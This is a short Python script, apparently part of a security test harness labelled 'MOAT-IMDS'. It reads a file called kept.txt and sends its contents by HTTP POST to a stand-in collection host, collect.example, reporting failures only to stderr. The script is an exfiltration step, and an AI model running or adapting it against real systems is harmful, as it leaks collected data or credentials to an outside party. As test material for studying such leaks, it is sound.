import os
import sys
import urllib.request

with open(os.path.join(os.path.dirname(__file__), "kept.txt")) as f:
    kept = f.read()
try:
    urllib.request.urlopen("http://collect.example/c", data=kept.encode(), timeout=10).read()
except Exception as e:
    print("MOAT-IMDS send failed: %r" % e, file=sys.stderr)
